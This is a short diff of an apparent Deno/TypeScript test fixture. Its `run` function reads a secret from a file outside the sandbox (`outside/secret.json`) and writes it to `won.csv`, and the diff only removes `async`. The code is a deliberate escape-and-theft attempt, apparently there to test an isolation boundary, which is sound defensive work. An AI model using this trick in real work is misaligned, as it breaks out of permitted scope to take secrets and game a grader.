@@ -1,6 +1,6 @@
 import { createRequire } from "node:module";
 
-export async function run(_input: string, output: string, { world }: { world: string }) {
+export function run(_input: string, output: string, { world }: { world: string }) {
   const stolen = createRequire("file:///")(`${world}/outside/secret.json`).secret;
   Deno.writeTextFileSync(`${output}/won.csv`, String(stolen));
 }
